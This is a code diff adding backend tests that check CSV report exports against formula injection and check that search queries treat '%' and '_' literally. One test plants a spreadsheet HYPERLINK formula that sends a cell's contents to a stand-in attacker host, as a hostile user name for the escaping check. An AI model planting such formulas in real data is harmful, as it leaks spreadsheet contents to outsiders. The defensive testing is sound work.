@@ -1,6 +1,8 @@
 import { sql, type SQL } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseCsv } from '@tirr/domain';
 import { bearer, createTestApp, signIn, type TestApp } from '../../test/harness';
+import { blacklistRepository } from './blacklist.repository';
 
 /** Rows of a raw SQL query (PGlite and node-postgres both answer { rows }). */
 const rows = async <T>(query: SQL): Promise<T[]> =>
@@ -230,6 +232,28 @@ describe('/system/blacklist', () => {
 });
 
 describe('/system/reports', () => {
+  it('neutralizes formulas in the exported CSV: a name cannot run in a spreadsheet (ADR 0112)', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
+    const [{ name } = { name: null }] = await rows<{ name: string | null }>(
+      sql`select name from users where id = ${ids.premium}`,
+    );
+    await t.database.db.execute(sql`update users set name = ${hostile} where id = ${ids.premium}`);
+    try {
+      expect((await call('premium', 'GET', '/credit/20314567820/report')).statusCode).toBe(200);
+      const day = today();
+      const csv = await call('admin', 'GET', `/system/reports.csv?from=${day}&to=${day}`);
+      const table = parseCsv(csv.body);
+      expect(table.find((row) => row[0] === 'premium@tirr.demo')).toEqual([
+        'premium@tirr.demo',
+        `'${hostile}`,
+        expect.stringMatching(/^[1-9]\d*$/),
+      ]);
+      expect(table.find((row) => row[0] === day)).toEqual([day, expect.stringMatching(/^[1-9]\d*$/)]);
+    } finally {
+      await t.database.db.execute(sql`update users set name = ${name} where id = ${ids.premium}`);
+    }
+  });
+
   it("counts today's consults per day, top users and tax ids; exports CSV", async () => {
     expect((await call('premium', 'GET', '/credit/27283456719/report')).statusCode).toBe(200);
     const day = today();
@@ -259,5 +283,51 @@ describe('/system/reports', () => {
     expect(reversed.json().message).toContain('to');
     expect((await call('admin', 'GET', '/system/reports?from=2020-01-01&to=2026-01-01')).statusCode).toBe(400);
     expect((await call('admin', 'GET', '/system/reports?from=ayer&to=2026-01-01')).json().message).toContain('from');
+  });
+});
+
+describe("searches take '%' and '_' literally", () => {
+  it('users: a wildcard in the search box matches only itself', async () => {
+    const total = async (q: string) =>
+      (await call('admin', 'GET', `/system/users?q=${encodeURIComponent(q)}`)).json().total as number;
+    expect(await total('free@tirr')).toBe(1);
+    expect(await total('fre_@tirr')).toBe(0);
+    expect(await total('%@tirr.demo')).toBe(0);
+    expect(await total('_')).toBe(0);
+  });
+
+  it('errors: an underscore is an underscore, a percent sign a percent sign', async () => {
+    for (const description of ['lote_7 falló al 100%', 'loteX7 falló al 1000']) {
+      expect((await call('free', 'POST', '/logs/errors', { type: 'react', path: '/', description })).statusCode).toBe(
+        201,
+      );
+    }
+    const found = async (q: string) =>
+      (await call('sysadmin', 'GET', `/system/errors?q=${encodeURIComponent(q)}`))
+        .json()
+        .items.map((i: { description: string }) => i.description);
+    expect(await found('lote_7')).toEqual(['lote_7 falló al 100%']);
+    expect(await found('100%')).toEqual(['lote_7 falló al 100%']);
+    expect(await found('al 1%0')).toEqual([]);
+  });
+
+  it('blacklist: the repository escapes what it is given', async () => {
+    expect(
+      (
+        await call('admin', 'POST', '/system/blacklist', {
+          taxNumber: '30715896342',
+          reason: 'Prueba',
+          requestedBy: 'El titular',
+        })
+      ).statusCode,
+    ).toBe(201);
+    try {
+      const blacklist = blacklistRepository(t.database.db);
+      expect((await blacklist.list(0, 10, '7158')).rows.map((r) => r.taxNumber)).toEqual(['30715896342']);
+      expect((await blacklist.list(0, 10, '%')).rows).toEqual([]);
+      expect((await blacklist.list(0, 10, '3_71')).rows).toEqual([]);
+    } finally {
+      await call('admin', 'DELETE', '/system/blacklist/30715896342');
+    }
   });
 });
